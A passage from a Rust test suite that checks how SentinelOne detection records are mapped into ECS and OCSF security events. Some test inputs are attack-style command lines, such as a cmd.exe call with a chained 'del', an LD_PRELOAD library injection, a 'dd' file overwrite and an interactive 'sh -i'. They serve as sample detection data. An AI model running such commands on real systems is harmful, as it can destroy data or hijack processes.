        {"id": "1", "name": "eth0", "physical": received, "inet": ["10.0.0.7"], "inet6": []}]});
    let expected = ecs.map_or(Value::Null, |mac| json!([mac]));
    assert_fields(&map_to(Schema::Ecs, Stream::Agents, &record), &[("host.mac", expected)]);
    let event = map_to(Schema::Ocsf, Stream::Agents, &record);
    assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
    assert_fields(&event, &[("device.mac", json!(ocsf))]);
    let observed = event["observables"].as_array().unwrap().iter().find(|one| one["type"] == "MAC Address");
    assert_eq!(observed.map(|one| &one["value"]).and_then(Value::as_str), ocsf, "{event:#}");
}

#[test]
fn a_mac_address_is_one_in_any_spelling() {
    let ecs = Some("00-50-56-9A-1B-2C");
    for (received, ocsf) in [
        ("00:50:56:9a:1b:2c", "00:50:56:9a:1b:2c"),
        ("00-50-56-9A-1B-2C", "00-50-56-9A-1B-2C"),
        ("0050569A1B2C", "00:50:56:9A:1B:2C"),
        ("0050569a1b2c", "00:50:56:9a:1b:2c"),
        ("0050.569a.1b2c", "00:50:56:9a:1b:2c"),
        ("0050-569A-1B2C", "00:50:56:9A:1B:2C"),
        ("005056-9A1B2C", "00:50:56:9A:1B:2C"),
        (" 00:50:56:9a:1b:2c ", "00:50:56:9a:1b:2c"),
    ] {
        check_mac(received, ecs, Some(ocsf));
    }
    check_mac("00:25:96:FF:FE:12:34:56", Some("00-25-96-FF-FE-12-34-56"), None);
    for received in [
        "00:00:00:00:00:00:00:00",
        "0000000000000000",
        "00-00-00-00-00-00-00-E0",
        "00:00:00:00:00:00:00:e0",
        "FF:FF:FF:FF:FF:FF:FF:FF",
        "000000000000",
        "ffffffffffff",
        "025041000001",
        "0050.569a.1b2c.3",
        "0050569A1B",
        "0050569A1B2G",
        "n/a",
        "",
    ] {
        check_mac(received, None, None);
    }
    // Each interface has its own spelling, and the one of the address has that of the device.
    let interface = |mac: &str, ip: &str| json!({"name": "e", "physical": mac, "inet": [ip]});
    let record = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "networkInterfaces": [
        interface("024200000001", "172.17.0.1"), interface("0050569A1B2C", "10.0.0.7")]});
    let event = map_to(Schema::Ocsf, Stream::Agents, &record);
    let macs: Vec<_> =
        event["device"]["network_interfaces"].as_array().unwrap().iter().map(|one| one["mac"].clone()).collect();
    assert_eq!(macs, [json!("02:42:00:00:00:01"), json!("00:50:56:9A:1B:2C")], "{event:#}");
    assert_fields(&event, &[("device.mac", json!("00:50:56:9A:1B:2C"))]);
    // What was spelled otherwise stays in the record too.
    assert!(!at(&event, "unmapped.networkInterfaces").is_null(), "{event:#}");
    // The addresses of an activity are in one text.
    let data = json!({"physical": "0050569A1B2C", "computerName": "h"});
    let [ecs, ocsf] = of_activity(3608, json!({"agentId": "1"}), data);
    assert_fields(&ecs, &[("host.mac", json!(["00-50-56-9A-1B-2C"]))]);
    assert_fields(&ocsf, &[("device.mac", json!("00:50:56:9A:1B:2C"))]);
}

#[test]
fn a_mac_address_that_a_unified_alert_observed_is_one() {
    let observed = |mac: &str| {
        let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "name": "n",
            "observables": [{"type": "MAC", "value": mac}]});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let all = event["observables"].as_array().cloned().unwrap_or_default();
        all.into_iter().find(|one| one["type"] == "MAC Address").map(|one| one["value"].clone())
    };
    for mac in ["00:50:56:9a:1b:2c", "0050569A1B2C", "0050.569a.1b2c"] {
        assert_eq!(observed(mac), Some(json!(mac)));
    }
    for mac in ["000000000000", "00:00:00:00:00:00:00:e0", "02:50:41:00:00:01", "x"] {
        assert_eq!(observed(mac), None, "{mac}");
    }
}

#[test]
fn no_name_has_blanks_around_it() {
    for name in ["wmic.exe (CLI e94a) ", " wmic.exe (CLI e94a)", "wmic.exe (CLI e94a)  ", "wmic.exe  (CLI e94a)"] {
        let info = json!({"threatName": name, "confidenceLevel": "malicious", "sha1": "a".repeat(40)});
        let record = threat(info, json!({"agentRealtimeInfo": {"agentComputerName": "H"}}));
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(event["malware"][0]["name"], "wmic.exe", "{event:#}");
        assert_fields(
            &event,
            &[("finding_info.title", json!(name.trim())), ("message", json!(format!("Malware {} on H", name.trim())))],
        );
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_fields(&event, &[("message", json!(format!("Malware {} on H", name.trim())))]);
    }
    for name in ["cmd.exe (CLI 4CA1) ", " cmd.exe (interactive session) ", "cmd.exe (CLI 4CA1) (interactive session) "]
    {
        let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "name": name, "classification": "MALWARE",
            "process": {"file": {"name": name, "sha1": "a".repeat(40)}}});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_eq!(event["malware"][0]["name"], "cmd.exe", "{event:#}");
        assert_fields(&event, &[("finding_info.title", json!(name.trim())), ("message", json!(name.trim()))]);
        assert_fields(&map_to(Schema::Ecs, Stream::UnifiedAlerts, &record), &[("message", json!(name.trim()))]);
    }
}

#[test]
fn the_action_of_a_vulnerability_is_one_word() {
    for (status, action) in [
        (json!("Detected"), "vulnerability-detected"),
        (json!("Pending Patch"), "vulnerability-pending-patch"),
        (json!(" To be  patched "), "vulnerability-to-be-patched"),
        (json!("NOT_FIXED"), "vulnerability-not-fixed"),
        (json!("In-Progress"), "vulnerability-in-progress"),
        (json!("Gelöst von Hand"), "vulnerability-gelöst-von-hand"),
        (json!("a\tb\u{a0}c"), "vulnerability-a-b-c"),
        (json!(" - "), "vulnerability-detected"),
        (json!("detected - "), "vulnerability-detected"),
        (json!("Won't fix (risk accepted)"), "vulnerability-won't-fix-(risk-accepted)"),
        (json!("a \"b\" c"), "vulnerability-a-\"b\"-c"),
        (json!(7), "vulnerability-7"),
        (json!(["Detected"]), "vulnerability-detected"),
        (json!("n/a"), "vulnerability-detected"),
        (json!(""), "vulnerability-detected"),
        (Value::Null, "vulnerability-detected"),
    ] {
        let record = json!({"id": "1", "detectionDate": "2026-01-01T00:00:00Z", "status": status});
        let event = map_to(Schema::Ecs, Stream::Vulnerabilities, &record);
        assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("event.action", json!(action))]);
    }
}

#[test]
fn a_domain_of_nothing_is_none() {
    for (name, user, domain) in [
        (r".\admin", Some("admin"), None),
        (r" . \ admin ", Some("admin"), None),
        (r"N/A\admin", Some("admin"), None),
        (r"-\admin", Some("admin"), None),
        (r"NULL\admin", Some("admin"), None),
        (r"unknown\admin", Some("admin"), None),
        (r"..\admin", Some("admin"), None),
        (r".\jane@acme.example", Some("jane"), Some("acme.example")),
        (r"N/A\N/A", None, None),
        (r".\-", None, None),
        (r"ACME\N/A", None, None),
        (r"ACME\admin", Some("admin"), Some("ACME")),
        (r"WORKGROUP\admin", Some("admin"), Some("WORKGROUP")),
        ("admin@.", Some("admin"), None),
        ("admin@n/a", Some("admin"), None),
        (r".\.\admin", Some("admin"), None),
        (r"?\admin", Some("admin"), None),
        (r"[]\admin", Some("admin"), None),
        (r"(null)\admin", Some("admin"), Some("(null)")),
        (r"a.\admin", Some("admin"), Some("a.")),
    ] {
        let agent = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "lastLoggedInUserName": name});
        let event = map_to(Schema::Ecs, Stream::Agents, &agent);
        assert_fields(&event, &[("user.name", json!(user)), ("user.domain", json!(domain))]);
        assert_fields(&event, &[("sentinel_one.agent.last_logged_in_user_name", json!(name))]);
        let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.owner.name", json!(user)), ("device.owner.domain", json!(domain))]);
        let record = threat(json!({"processUser": name}), json!({}));
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_fields(&event, &[("user.name", json!(user)), ("user.domain", json!(domain))]);
    }
    for domain in [".", "-", "N/A", "..", " . ", "?", "none"] {
        let agent = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "computerName": "h", "domain": domain});
        let event = map_to(Schema::Ecs, Stream::Agents, &agent);
        assert_fields(&event, &[("host.domain", Value::Null), ("related.hosts", json!(["h"]))]);
        assert_fields(&map_to(Schema::Ocsf, Stream::Agents, &agent), &[("device.domain", Value::Null)]);
        let alert = json!({"alertInfo": {"alertId": "1", "createdAt": "2026-01-01T00:00:00Z",
            "loginsUserName": "admin", "loginAccountDomain": domain}});
        let event = map_to(Schema::Ecs, Stream::Alerts, &alert);
        assert_fields(&event, &[("user.name", json!("admin")), ("user.domain", Value::Null)]);
        let event = map_to(Schema::Ocsf, Stream::Alerts, &alert);
        let user = event["evidences"].as_array().unwrap().iter().find_map(|one| one.get("user")).unwrap();
        assert_eq!((&user["name"], user.get("domain")), (&json!("admin"), None), "{event:#}");
        let target = json!({"name": "admin", "domain": domain});
        let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z",
            "detectionTime": {"targetUser": target}});
        let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
        assert_fields(&event, &[("user.name", json!("admin")), ("user.domain", Value::Null)]);
    }
}

#[test]
fn an_account_of_the_machine_itself_came_from_another_host_too() {
    for (origin, address) in [
        (r"Lateral Movement DESKTOP-1 .\bob (interactive session)", None),
        (r"Lateral Movement 192.0.2.3 .\bob (network)", Some("192.0.2.3")),
    ] {
        let event = map_to(Schema::Ecs, Stream::Threats, &threat(json!({"originatorProcess": origin}), json!({})));
        assert_fields(
            &event,
            &[("source.ip", json!(address)), ("user.name", json!("bob")), ("process.parent.name", Value::Null)],
        );
    }
}

#[test]
fn a_file_is_an_argument_where_a_word_ends_in_any_way() {
    for (path, arguments, process) in [
        (r"C:\Users\jane\readme", r"rundll32.exe C:\Users\jane\readme,Start", "rundll32.exe"),
        (r"C:\Users\jane\a.exe", r"cmd.exe /c C:\Users\jane\a.exe&&del x", "cmd.exe"),
        (r"C:\Users\jane\a.exe", r"cmd.exe /c C:\Users\jane\a.exe>nul", "cmd.exe"),
        (r"C:\Users\jane\a,b.exe", r"cmd.exe /c C:\Users\jane\a,b.exe", "cmd.exe"),
        ("/tmp/a", "dd if=/dev/zero of=/tmp/a", "dd"),
        ("/tmp/a", "env LD_PRELOAD=/tmp/a /bin/ls", "env"),
        ("/tmp/a", "bash -c (/tmp/a;rm)", "bash"),
    ] {
        let detected = json!({"detectionType": "dynamic", "filePath": path, "maliciousProcessArguments": arguments});
        let event = map_to(Schema::Ecs, Stream::Threats, &threat(detected.clone(), json!({})));
        assert_fields(&event, &[("process.name", json!(process)), ("process.command_line", json!(arguments))]);
        let name = path.rsplit(['\\', '/']).next().unwrap();
        assert_fields(&event, &[("file.name", json!(name))]);
    }
}

#[test]
fn where_the_console_offers_a_file_is_no_place_on_the_endpoint() {
    let url = "/agents/0123456789/uploads/0987654321";
    for (path, expected) in [(url, None), (r"C:\Windows\a.dll", Some(r"C:\Windows\a.dll"))] {
        let data = json!({"filePath": path, "downloadUrl": url, "fileDisplayName": "dell_protect.x64.dll"});
        let [ecs, _] = of_activity(86, json!({}), data);
        let name = if expected.is_some() { "a.dll" } else { "dell_protect.x64.dll" };
        assert_fields(
            &ecs,
            &[("file.path", json!(expected)), ("file.name", json!(name)), ("url.original", json!(url))],
        );
    }
}

#[test]
fn a_principal_name_without_a_domain_is_no_address_either() {
    for name in ["jane", r"ACME\jane", "string"] {
        let directory = json!({"userPrincipalName": name});
        let agent = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "lastLoggedInUserName": "jane",
            "activeDirectory": directory});
        let event = map_to(Schema::Ecs, Stream::Agents, &agent);
        assert_fields(&event, &[("user.email", Value::Null), ("user.name", json!("jane"))]);
    }
}

#[test]
fn the_maker_of_a_processor_is_named_anywhere() {
    for (model, vendor) in [
        ("11th Gen Intel(R) Core(TM) i5-1145G7 @ 2.60GHz", Some("Intel")),
        ("Genuine Intel(R) CPU", Some("Intel")),
        ("GenuineIntel", Some("Intel")),
        ("AuthenticAMD", Some("AMD")),
        ("Dual-Core AMD Opteron(tm) Processor 2212", Some("AMD")),
        ("VirtualApple @ 2.50GHz", Some("Apple")),
        ("Apple M2", Some("Apple")),
        ("VIA Eden X4 C4250@1.2+GHz", Some("VIA")),
        ("ARM Cortex-A72", None),
    ] {
        let agent = json!({"id": "1", "updatedAt": "2026-01-01T00:00:00Z", "computerName": "h", "cpuId": model});
        let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
        assert_eq!(
            event.pointer("/device/hw_info/cpu_info_list/0/vendor_name"),
            vendor.map(|v| json!(v)).as_ref(),
            "{model}"
        );
    }
}

/// The users of an activity: id, name and address of who acted, and the address of who was changed.
#[track_caller]
fn check_users(number: u32, fields: Value, data: Value, expected: [Value; 3], target: Value) {
    let [ecs, ocsf] = of_activity(number, fields, data);
    let [id, name, email] = expected;
    assert_fields(&ecs, &[("user.id", id.clone()), ("user.name", name.clone()), ("user.email", email.clone())]);
    assert_fields(&ecs, &[("user.target.email", target.clone())]);
    let acting = [("actor.user.uid", id), ("actor.user.name", name), ("actor.user.email_addr", email)];
    assert_fields(&ocsf, &acting);
    if !target.is_null() {
        assert_fields(&ocsf, &[("user.email_addr", target)]);
    }
}

#[test]
fn a_description_is_of_the_user_whose_id_it_has() {
    let none = Value::Null;
    let described = |id: &str| format!("<ManagementUser with id={id}, email='jane@acme.example', user_scope='site'>");
    let fields = |user: &str, id: &str| json!({"userId": user, "description": described(id), "siteId": "5"});
    let jane = || json!("jane@acme.example");
    // Outside of `iam`, there is one user.
    for (number, data) in [
        (27, json!({"username": "Jane Doe", "role": "Admin"})),
        (5020, json!({"byUser": "Jane Doe", "siteName": "S"})),
        (5020, json!({"username": "Jane Doe", "siteName": "S"})),
    ] {
        for (user, id, expected) in [("7", "7", "7"), ("7", "", "7"), ("", "7", "7")] {
            check_users(
                number,
                fields(user, id),
                data.clone(),
                [json!(expected), json!("Jane Doe"), jane()],
                none.clone(),
            );
        }
        // Nobody knows who of the two acted but for the id.
        check_users(
            number,
            fields("7", "8"),
            data.clone(),
            [json!("7"), json!("Jane Doe"), none.clone()],
            none.clone(),
        );
    }
    // Without a name, the address has it.
    for number in [27, 5020] {
        check_users(number, fields("7", ""), json!({}), [json!("7"), json!("jane"), jane()], none.clone());
        let [ecs, _] = of_activity(number, fields("", ""), json!({}));
        assert_fields(&ecs, &[("user", json!({"name": "jane", "email": "jane@acme.example"}))]);
        // The name is another user's address.
        let eve = [none.clone(), json!("eve"), json!("eve@acme.example")];
        check_users(number, fields("", "8"), json!({"username": "eve@acme.example"}), eve, none.clone());
    }
    // A new user is described, or who added it.
    let added = json!({"byUser": "Admin A", "username": "Jane Doe", "role": "Viewer"});
    check_users(23, fields("7", "7"), added.clone(), [none.clone(), json!("Admin A"), none.clone()], jane());
    check_users(23, fields("7", "8"), added, [json!("8"), json!("Admin A"), jane()], none.clone());
    // Who of the two it is, only the id says.
    check_users(23, fields("7", ""), json!({}), [json!("7"), none.clone(), none.clone()], none);
}

#[test]
fn who_is_named_at_the_beginning_of_a_sentence_acted() {
    let message = |text: &str| json!({"primaryDescription": text});
    let jane = || json!({"name": "jane", "email": "jane@acme.example"});
    for (number, text) in [
        (27, "User jane@acme.example logged into the management console"),
        (33, "The management user jane@acme.example logged out of the management console."),
        (5020, "The management user jane@acme.example created site S."),
        (5020, "The management user jane@acme.example, an admin, created site S for bob@acme.example."),
    ] {
        let [ecs, ocsf] = of_activity(number, message(text), json!({"siteName": "S"}));
        assert_fields(&ecs, &[("user", jane())]);
        assert_fields(
            &ocsf,
            &[("actor.user.name", json!("jane")), ("actor.user.email_addr", json!("jane@acme.example"))],
        );
        if number == 27 {
            assert_fields(&ocsf, &[("class_uid", json!(3002)), ("user.name", json!("jane"))]);
        }
    }
    for (number, text, data) in [
        (27, "Jane (jane@acme.example) logged in", json!({})),
        (5020, "The site of user jane@acme.example was created", json!({})),
        (23, "User jane@acme.example was added.", json!({})),
        (27, "User jane@acme.example logged in", json!({"username": "N/A", "fullName": "Eve"})),
        (5020, "User jane@acme.example asked for a site", json!({"byUser": "Eve"})),
    ] {
        let [ecs, ocsf] = of_activity(number, message(text), data);
        assert_fields(&ecs, &[("user.email", Value::Null)]);
        assert_fields(&ocsf, &[("actor.user.email_addr", Value::Null)]);
    }
}

#[test]
fn an_unknown_class_of_a_unified_alert_is_no_malware() {
    for (class, surface, categories, malware) in [
        ("CREDENTIAL_ABUSE", "IDENTITY", json!(["intrusion_detection", "iam"]), Value::Null),
        ("New Word", "ENDPOINT", json!(["intrusion_detection"]), Value::Null),
        ("HACKTOOL", "IDENTITY", json!(["intrusion_detection"]), Value::Null),
        ("REMOTE_SHELL", "ENDPOINT", json!(["malware"]), Value::Null),
        ("HACKTOOL", "ENDPOINT", json!(["malware"]), json!([99])),
        ("MALICIOUS_PDF", "EMAIL", json!(["malware"]), json!([99])),
        ("ADWARE", "ENDPOINT", json!(["malware"]), json!([1])),
        ("RANSOMWARE", "IDENTITY", json!(["malware"]), json!([10])),
    ] {
        let record = json!({"id": "1", "name": "n", "classification": class, "attackSurfaces": [surface]});
        assert_fields(
            &map_to(Schema::Ecs, Stream::UnifiedAlerts, &record),
            &[("event.category", categories), ("sentinel_one.unified_alert.classification", json!(class))],
        );
        let ocsf = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_eq!(faults(Schema::Ocsf, &ocsf), Vec::<String>::new());
        let kind = ocsf.pointer("/malware/0/classification_ids").cloned().unwrap_or_default();
        assert_eq!((kind, &ocsf["finding_info"]["types"]), (malware, &json!([class])), "{ocsf:#}");
    }
    // A threat is malware, whatever the word.
    let record = threat(json!({"classification": "New Word"}), json!({}));
    assert_fields(&map_to(Schema::Ecs, Stream::Threats, &record), &[("event.category", json!(["malware"]))]);
    let ocsf = map_to(Schema::Ocsf, Stream::Threats, &record);
    assert_eq!(ocsf["malware"][0]["classification_ids"], json!([99]));
    assert_eq!(ocsf["malware"][0]["classifications"], json!(["New Word"]));
}

#[test]
fn who_logged_in_as_an_administrator_is_one() {
    for (word, kind) in
        [(json!("true"), "Admin"), (json!(true), "Admin"), (json!("false"), "Unknown"), (json!(null), "Unknown")]
    {
        let info = json!({"alertId": "1", "eventType": "WINLOGONATTEMPT", "loginsUserName": "jane",
            "loginAccountSid": "S-1-5-21-1", "loginIsSuccessful": "true", "loginIsAdministratorEquivalent": word});
        let event =
            map_to(Schema::Ocsf, Stream::Alerts, &json!({"alertInfo": info, "ruleInfo": {"id": "1", "name": "r"}}));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new());
        let user = &event["evidences"][0]["user"];
        assert_eq!((&user["name"], &user["type"]), (&json!("jane"), &json!(kind)), "{event:#}");
        let hit = json!({"rulename": "r", "ruleid": "1", "alertid": "1", "dveventtype": "WINLOGONATTEMPT",
            "loginsusername": "jane", "loginisadministratorequivalent": word});
        let [_, event] = of_activity(3608, json!({}), hit);
        assert_eq!(event["evidences"][0]["user"]["type"], json!(kind), "{event:#}");
    }
    // The system is not one of its administrators.
    let info = json!({"alertId": "1", "eventType": "WINLOGONATTEMPT", "loginsUserName": "SYSTEM",
        "loginIsAdministratorEquivalent": "true"});
    let event = map_to(Schema::Ocsf, Stream::Alerts, &json!({"alertInfo": info}));
    assert_eq!(event["evidences"][0]["user"]["type"], json!("System"), "{event:#}");
}

#[test]
fn an_unmitigated_alert_is_allowed_whatever_an_action_reports() {
    for (policy, action) in [("PROTECT", "Allowed"), ("DETECT", "Observed")] {
        let asset = json!({"name": "h", "osType": "WINDOWS", "agentUuid": "u", "policy": policy});
        let record = json!({"id": "1", "name": "n", "classification": "MALWARE", "result": "UNMITIGATED",
            "assets": [asset.clone()], "detectionTime": {"assets": [asset]},
            "mitigationDetails": {"reports": [{"mitigationActionType": "KILL", "successCount": 1}]}});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        let said = ["disposition", "action"].map(|name| event[name].as_str().unwrap_or_default().to_owned());
        assert_eq!(said, ["Detected", action], "{event:#}");
    }
}

#[test]
fn an_unknown_result_of_a_unified_alert_says_nothing_of_it() {
    for (result, said) in [
        (json!("PARTIALLY_MITIGATED"), [None, None]),
        (json!("mitigated"), [Some("Corrected"), Some("Denied")]),
        (Value::Null, [Some("Alert"), Some("Observed")]),
        (json!("N/A"), [Some("Alert"), Some("Observed")]),
    ] {
        let record = json!({"id": "1", "name": "n", "classification": "MALWARE", "result": result});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_eq!(["disposition", "action"].map(|name| event[name].as_str()), said, "{event:#}");
        if said[0].is_none() {
            assert_fields(&event, &[("unmapped.result", result.clone())]);
            let ecs = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
            assert_fields(&ecs, &[("event.outcome", json!("unknown"))]);
        }
    }
}

#[test]
fn a_placeholder_names_no_action() {
    for word in ["N/A", "UNKNOWN", " none ", "-", ""] {
        let records = [
            (Stream::UnifiedAlerts, json!({"id": "1", "result": word}), json!("unified-alert-raised")),
            (Stream::Threats, threat(json!({"mitigationStatus": word}), json!({})), Value::Null),
            (Stream::Alerts, json!({"alertInfo": {"alertId": "1", "eventType": word}}), json!("alert-raised")),
            (Stream::Activities, activity(3608, json!({}), json!({"dveventtype": word})), json!("alert-raised")),
            (Stream::Vulnerabilities, json!({"id": "1", "status": word}), json!("vulnerability-detected")),
        ];
        for (stream, record, action) in records {
            let event = map_to(Schema::Ecs, stream, &record);
            assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("event.action", action)]);
        }
    }
}

#[test]
fn an_unknown_severity_that_an_alert_was_given_is_none() {
    for (severity, score, word) in [("SEV0", Value::Null, "Unknown"), ("HIGH", json!(73), "High")] {
        for fields in [json!({"alertId": "9"}), json!({})] {
            let mut data = fields;
            data["newSeverity"] = json!(severity);
            let [ecs, ocsf] = of_activity(16003, json!({}), data);
            assert_fields(&ecs, &[("event.severity", score.clone())]);
            assert_fields(&ocsf, &[("severity", json!(word))]);
        }
    }
    // Without a word, it is that of the type.
    let [ecs, _] = of_activity(16003, json!({}), json!({"alertId": "9"}));
    assert_fields(&ecs, &[("event.severity", json!(21))]);
}

#[test]
fn what_connects_a_network_is_a_machine() {
    for (word, kind) in [("Network Switch", "Switch"), ("Network Router", "Router"), ("Virtual Network", "")] {
        let record =
            json!({"id": "1", "assets": [{"id": "a", "name": "h", "category": "Device", "subcategory": word}]});
        let [ecs, ocsf] = [Schema::Ecs, Schema::Ocsf].map(|schema| map_to(schema, Stream::UnifiedAlerts, &record));
        let name = if kind.is_empty() { Value::Null } else { json!("h") };
        assert_fields(&ecs, &[("host.name", name)]);
        assert_eq!(ocsf["device"]["type"].as_str().unwrap_or_default(), kind, "{ocsf:#}");
    }
}

/// Some keys of an alert are no fields of the record of a hit.
#[test]
fn a_hit_has_all_that_its_alert_has() {
    let alert = json!({"alertInfo": {"alertId": "5", "indicatorCategory": "Evasion"}, "ruleInfo": {"name": "r"},
        "sourceProcessInfo": {"name": "a.exe", "pid": "12", "integrityLevel": "medium"},
        "sourceParentProcessInfo": {"name": "b.exe", "pid": "11", "integrityLevel": "high"},
        "targetProcessInfo": {"tgtFileId": "5C4E2E3FE950B367", "tgtFilePath": "C:\\x\\a.txt"}});
    let hit = activity(
        3608,
        json!({"agentId": "9"}),
        json!({"alertid": "5", "rulename": "r", "indicatorcategory": "Evasion", "sourceprocessname": "a.exe",
            "sourceprocesspid": "12", "sourceprocessintegritylevel": "medium", "sourceparentprocessname": "b.exe",
            "sourceparentprocesspid": "11", "sourceparentprocessintegritylevel": "high",
            "tgtfileid": "5C4E2E3FE950B367", "tgtfilepath": "C:\\x\\a.txt"}),
    );
    for (stream, record) in [(Stream::Alerts, alert), (Stream::Activities, hit)] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("event.category", json!(["intrusion_detection", "malware"]))]);
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(
            &event["actor"]["process"],
            &[("integrity", json!("Medium")), ("parent_process.integrity", json!("High"))],
        );
        let mut files = event["evidences"].as_array().unwrap().iter().filter_map(|evidence| evidence.get("file"));
        assert!(files.any(|file| file["uid"] == "5C4E2E3FE950B367"), "{event:#}");
    }
}

/// Members of an object have no order.
#[test]
fn a_tactic_is_that_of_its_techniques_whichever_comes_first() {
    let [name, techniques] = [r#""name":"Execution""#, r#""techniques":[{"name":"T1059.001"},{"name":"T1106"}]"#];
    for tactic in [format!("{{{name},{techniques}}}"), format!("{{{techniques},{name}}}")] {
        let record = threat(json!({}), json!({"indicators": [{"tactics": ["TACTIC"]}]}));
        let record = record.to_string().replace("\"TACTIC\"", &tactic);
        let [ecs, ocsf] = [Schema::Ecs, Schema::Ocsf].map(|schema| {
            let mut out = Vec::new();
            mapper_to(schema, Stream::Threats, false).map(record.as_bytes(), &mut out).expect("maps");
            read_event(&out)
        });
        assert_fields(&ecs["threat"], &[("tactic.id", json!(["TA0002"])), ("technique.id", json!(["T1059", "T1106"]))]);
        for attacks in [&ocsf["attacks"], &ocsf["finding_info"]["attacks"]] {
            assert_eq!(attacks.as_array().map(Vec::len), Some(2), "{ocsf:#}");
            for attack in attacks.as_array().unwrap() {
                assert_fields(attack, &[("tactic", json!({"name": "Execution", "uid": "TA0002"}))]);
            }
        }
    }
}

#[test]
fn the_hash_of_a_command_line_is_related_without_a_file() {
    let sha1 = format!("8a9e{}", "1".repeat(36));
    let name = "cmd.exe (CLI 8a9e)";
    let of_threat = |path: Value| threat(json!({"threatName": name, "filePath": path, "sha1": sha1}), json!({}));
    let of_activity = activity(
        4003,
        json!({"threatId": "1"}),
        json!({"threatClassification": "Malware", "fileDisplayName": name, "fileContentHash": sha1}),
    );
    for (stream, record) in [
        (Stream::Threats, of_threat(Value::Null)),
        (Stream::Threats, of_threat(json!(""))),
        (Stream::Threats, of_threat(json!("N/A"))),
        (Stream::Activities, of_activity),
        (Stream::UnifiedAlerts, json!({"id": "1", "process": {"file": {"name": name, "sha1": sha1}}})),
    ] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("related.hash", json!([sha1])), ("file", Value::Null)]);
    }
}

/// The hash is that of the program.
#[test]
fn a_session_with_a_hash_has_a_file_in_all_streams() {
    let sha1 = "d".repeat(40);
    let name = "sh (interactive session)";
    let unified = |line: Value| {
        json!({"id": "1", "name": name, "classification": "MALWARE",
            "process": {"cmdLine": line, "file": {"name": name, "sha1": sha1}}})
    };
    let of_activity = activity(
        4003,
        json!({"threatId": "1"}),
        json!({"threatClassification": "Malware", "fileDisplayName": name, "fileContentHash": sha1}),
    );
    for (stream, record) in [
        (Stream::Threats, threat(json!({"threatName": name, "sha1": sha1, "detectionType": "dynamic"}), json!({}))),
        (Stream::Activities, of_activity),
        (Stream::UnifiedAlerts, unified(Value::Null)),
        (Stream::UnifiedAlerts, unified(json!("sh -i"))),
    ] {
        let event = map_to(Schema::Ecs, stream, &record);
        let file = json!({"name": "sh", "hash": {"sha1": sha1}});
        assert_fields(&event, &[("file", file), ("related.hash", json!([sha1])), ("process.name", json!("sh"))]);
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let file = &event["evidences"][0]["file"];
        assert_eq!((&file["name"], &file["hashes"][0]["value"]), (&json!("sh"), &json!(sha1)), "{event:#}");
        assert_fields(&event["malware"][0], &[("name", json!("sh")), ("uid", Value::Null)]);
    }
    // Without a hash, there is no file.
    for (stream, record) in [
        (Stream::Activities, activity(4003, json!({"threatId": "1"}), json!({"fileDisplayName": name}))),
        (Stream::UnifiedAlerts, json!({"id": "1", "process": {"file": {"name": name}}})),
    ] {
        assert_fields(&map_to(Schema::Ecs, stream, &record), &[("file", Value::Null)]);
    }
}

/// The directory has the user who logged in last. The user of the system may be another one.
#[test]
fn the_address_of_a_directory_is_that_of_its_user() {
    let agent = |last: &str, directory: Value| {
        let record = json!({"id": "9", "computerName": "web-1", "osUsername": "root", "lastLoggedInUserName": last,
            "activeDirectory": directory});
        let [ecs, ocsf] = [Schema::Ecs, Schema::Ocsf].map(|schema| map_to(schema, Stream::Agents, &record));
        assert_eq!(faults(Schema::Ocsf, &ocsf), Vec::<String>::new(), "{ocsf:#}");
        [ecs, ocsf]
    };
    let address = "jane@acme.example";
    for directory in [json!({"mail": address, "userPrincipalName": address}), json!({"mail": address})] {
        let [ecs, ocsf] = agent("", directory);
        assert_fields(&ecs, &[("user.name", json!("jane")), ("user.email", json!(address))]);
        assert!(ecs["related"]["user"].as_array().unwrap().contains(&json!("root")), "{ecs:#}");
        assert_fields(&ocsf, &[("device.owner.name", json!("jane")), ("device.owner.email_addr", json!(address))]);
    }
    let [ecs, ocsf] = agent("", json!({"userPrincipalName": "foo"}));
    assert_fields(&ecs, &[("user.name", json!("foo"))]);
    assert_fields(&ocsf, &[("device.owner.name", json!("foo")), ("device.owner.uid_alt", json!("foo"))]);
    let [ecs, ocsf] = agent("bob", json!({"mail": "bob@acme.example"}));
    assert_fields(&ecs, &[("user.name", json!("bob")), ("user.email", json!("bob@acme.example"))]);
    assert_fields(&ocsf, &[("device.owner.name", json!("bob"))]);
    // Without a user of a directory, it is the user of the system.
